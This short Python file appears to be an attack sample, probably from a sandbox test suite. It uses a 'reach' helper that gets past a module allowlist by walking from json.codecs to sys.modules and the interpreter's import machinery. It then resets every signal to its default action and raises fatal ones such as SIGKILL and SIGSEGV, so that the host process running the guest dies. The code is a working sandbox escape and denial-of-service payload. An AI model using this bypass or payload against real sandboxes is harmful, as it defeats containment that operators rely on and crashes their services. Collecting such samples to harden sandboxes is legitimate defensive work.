# trick: raise every signal in the guest with its default action, so that the process that runs the guest may die of it
# want: any


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def run(ctx):
    signal = reach("_signal")
    results = []
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_DFL)
        except (OSError, ValueError):
            pass
    for number in (28, 17, 18, 23, 10, 12, 14, 13, 1, 3, 15, 6, 4, 8, 11, 9):
        try:
            signal.raise_signal(number)
            results.append(number)
        except (OSError, ValueError):
            pass
    return results
